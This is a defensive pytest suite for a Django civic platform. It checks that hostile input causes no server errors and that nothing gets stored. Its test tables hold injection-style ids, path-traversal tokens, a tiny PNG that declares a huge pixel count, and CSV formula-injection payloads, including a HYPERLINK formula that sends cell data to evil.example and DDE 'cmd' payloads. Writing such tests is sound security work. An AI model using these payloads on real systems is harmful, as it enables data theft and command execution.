"""Hostile input never reaches a 500: what an attacker types, in every form and URL a role can reach.

Table-driven: each table lists the values and where they go; each test asserts what a person sees
(no 5xx, the field's message) and what is stored (nothing).
"""

import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.volunteering.factories import MissionFactory, SlotFactory

pytestmark = pytest.mark.django_db


def png_declaring(width: int, height: int) -> bytes:
    """A PNG of a few hundred bytes whose header declares ``width`` × ``height`` grayscale pixels.

    Its one data chunk holds a single compressed row: enough for any reader to parse the header,
    which is all a decompression bomb needs (a real one holds megabytes of zeros that inflate).
    """

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit grayscale
    row = zlib.compress(b"\0" * (width + 1))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", row) + chunk(b"IEND", b"")


# --- Out-of-range dates -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "start=9999-12-31&end=9999-12-31",
        "end=9999-12-31",
        "start=0001-01-01&end=0001-01-01",
        "start=9999-99-99",
        "start=2026-02-30",
        "start=%00&end=%27--",
        "month=9999-12",
        "month=0001-01",
    ],
)
@pytest.mark.parametrize("page", ["/en/events/", "/en/events/calendar/"])
def test_event_lists_answer_out_of_range_dates_without_a_500(client, page, query):
    response = client.get(f"{page}?{query}")
    assert response.status_code == 200


def test_an_out_of_range_date_in_the_event_filter_is_named_next_to_the_field(client):
    response = client.get("/en/events/?start=9999-12-31&end=9999-12-31")
    assert "Enter a date between 1900 and 2999." in response.content.decode()


# --- Non-numeric ids in admin URLs --------------------------------------------------------------

HOSTILE_IDS = ["abc", "1'--", "%2e%2e%2f", "-1", "1.5", "99999999999999999999999", "%00", "1%20OR%201=1"]


@pytest.mark.parametrize("object_id", HOSTILE_IDS)
@pytest.mark.parametrize("model", ["mission", "slot"])
@pytest.mark.parametrize("who", ["alice_in_a", "edith"])
def test_volunteering_admin_answers_404_for_a_hostile_id(client, request, who, model, object_id):
    client.force_login(request.getfixturevalue(who))
    SlotFactory(mission=MissionFactory(organization=request.getfixturevalue("org_a")))

    response = client.get(f"/admin/volunteering/{model}/{object_id}/change/")

    assert response.status_code == 404


# --- Decompression bombs and oversized pixel counts -------------------------------------------


def _profile_data(city, **extra):
    return {"display_name": "Alice", "home_city": city.pk, "language": "en", **extra}


@pytest.mark.parametrize(
    ("size", "message"),
    [
        ((20000, 20000), "This picture has too many pixels. The limit is 40 megapixels"),
        ((13000, 13000), "This picture has too many pixels. The limit is 40 megapixels"),
        ((8000, 6000), "This picture is too large (8000 × 6000 pixels). The limit is 40 megapixels"),
    ],
)
def test_a_picture_with_too_many_pixels_is_refused_as_an_avatar(client, alice, city, size, message):
    client.force_login(alice)
    bomb = png_declaring(*size)
    assert len(bomb) < 100_000

    response = client.post(
        "/en/me/profile/",
        _profile_data(city, avatar_upload=SimpleUploadedFile("me.png", bomb, content_type="image/png")),
    )

    assert response.status_code == 200
    html = response.content.decode()
    assert 'id="id_avatar_upload_error"' in html
    assert message in html
    alice.refresh_from_db()
    assert not alice.avatar


def test_the_pixel_cap_is_a_setting(client, alice, city, settings):
    settings.UPLOAD_MAX_PIXELS = 1_000_000
    client.force_login(alice)
    upload = SimpleUploadedFile("me.png", png_declaring(1200, 1000), content_type="image/png")

    response = client.post("/en/me/profile/", _profile_data(city, avatar_upload=upload))

    assert "The limit is 1 megapixels" in response.content.decode()


# --- RFC 8058 one-click unsubscribe -------------------------------------------------------------


def _unsubscribe_url(member) -> str:
    from civic.core.views import digest_unsubscribe_token

    return f"/en/digest/unsubscribe/{digest_unsubscribe_token(member)}/"


def test_a_mail_provider_unsubscribes_with_one_post_and_no_session_or_csrf_token(bob):
    from django.test import Client

    bob.weekly_digest = True
    bob.save(update_fields=["weekly_digest"])
    provider = Client(enforce_csrf_checks=True)  # no cookie, no session: what Gmail or Yahoo send

    response = provider.post(
        _unsubscribe_url(bob),
        data="List-Unsubscribe=One-Click",
        content_type="application/x-www-form-urlencoded",
    )

    assert response.status_code == 200
    bob.refresh_from_db()
    assert not bob.weekly_digest


def test_opening_the_unsubscribe_link_only_asks(client, bob):
    bob.weekly_digest = True
    bob.save(update_fields=["weekly_digest"])

    response = client.get(_unsubscribe_url(bob))

    assert "Stop receiving the weekly digest email?" in response.content.decode()
    bob.refresh_from_db()
    assert bob.weekly_digest


@pytest.mark.parametrize(
    "token",
    [
        "forged",
        "MQ:1vZ2Zx:abc",  # the shape of a signed value, with a wrong signature
        "x" * 5000,
        "%00",
        "..%2f..%2fadmin",
    ],
)
def test_a_forged_unsubscribe_token_unsubscribes_nobody(bob, token):
    from django.test import Client

    bob.weekly_digest = True
    bob.save(update_fields=["weekly_digest"])

    response = Client(enforce_csrf_checks=True).post(
        f"/en/digest/unsubscribe/{token}/",
        data="List-Unsubscribe=One-Click",
        content_type="application/x-www-form-urlencoded",
    )

    assert response.status_code == 404
    bob.refresh_from_db()
    assert bob.weekly_digest


def test_a_token_signed_for_something_else_does_not_unsubscribe(bob):
    from django.core import signing
    from django.test import Client

    bob.weekly_digest = True
    bob.save(update_fields=["weekly_digest"])
    other = signing.dumps(bob.pk)  # default salt: e.g. another feature's signed id

    response = Client().post(f"/en/digest/unsubscribe/{other}/", data={"List-Unsubscribe": "One-Click"})

    assert response.status_code == 404
    bob.refresh_from_db()
    assert bob.weekly_digest


def test_an_expired_unsubscribe_link_does_not_unsubscribe(bob):
    import time

    from django.core import signing
    from django.test import Client

    from civic.core.views import DIGEST_SALT, DIGEST_TOKEN_MAX_AGE

    class SignedLongAgo(signing.TimestampSigner):
        def timestamp(self):
            return signing.b62_encode(int(time.time()) - DIGEST_TOKEN_MAX_AGE - 60)

    bob.weekly_digest = True
    bob.save(update_fields=["weekly_digest"])
    stale = SignedLongAgo(salt=DIGEST_SALT).sign_object(bob.pk)

    response = Client().post(f"/en/digest/unsubscribe/{stale}/", data={"List-Unsubscribe": "One-Click"})

    assert response.status_code == 404
    bob.refresh_from_db()
    assert bob.weekly_digest


# --- CSV formula injection ------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(response) -> list[list[str]]:
    import csv
    import io

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def _assert_neutralised(rows: list[list[str]], payload: str) -> None:
    cells = [cell for row in rows for cell in row]
    assert "'" + payload in cells, f"{payload!r} missing from {rows}"
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()]


@pytest.mark.parametrize("payload", FORMULAS)
def test_the_officials_csv_exports_neutralise_formulas(client, olga, alice, city, payload):
    from participation import services as participation
    from tests.participation.factories import CitySpaceFactory, ProposalFactory

    CitySpaceFactory(city=city)
    proposal = ProposalFactory(city=city, title=payload, author=alice)
    participation.proposal_answer(proposal=proposal, official=olga, status="accepted", text=payload)
    client.force_login(olga)

    for what in ("proposals", "answers"):
        rows = _cells(client.get(f"/en/cities/{city.slug}/dashboard/export/{what}.csv"))
        _assert_neutralised(rows, payload)


@pytest.mark.parametrize("payload", FORMULAS)
def test_the_attendees_csv_neutralises_a_formula_as_a_name(client, payload):
    from events import services as events
    from tests.events.factories import EventFactory
    from tests.factories import MemberFactory

    organiser = MemberFactory(is_shaker=True)
    event = EventFactory(created_by=organiser)
    events.rsvp_create(event=event, member=MemberFactory(display_name=payload))
    client.force_login(organiser)

    _assert_neutralised(_cells(client.get(f"/en/events/{event.pk}/attendees.csv")), payload)


@pytest.mark.parametrize("payload", FORMULAS)
def test_the_volunteers_csv_neutralises_formulas_in_names_and_titles(client, alice_in_a, org_a, payload):
    from tests.factories import MemberFactory
    from tests.volunteering.factories import ParticipationFactory

    slot = SlotFactory(mission=MissionFactory(organization=org_a, title_fr=payload, title_en=payload))
    ParticipationFactory(slot=slot, member=MemberFactory(display_name=payload))
    client.force_login(alice_in_a)

    response = client.post(
        "/admin/volunteering/slot/", {"action": "export_csv", "_selected_action": [slot.pk]}
    )

    rows = _cells(response)
    _assert_neutralised(rows, payload)
    assert sum(cell == "'" + payload for row in rows for cell in row) == 2  # mission and volunteer
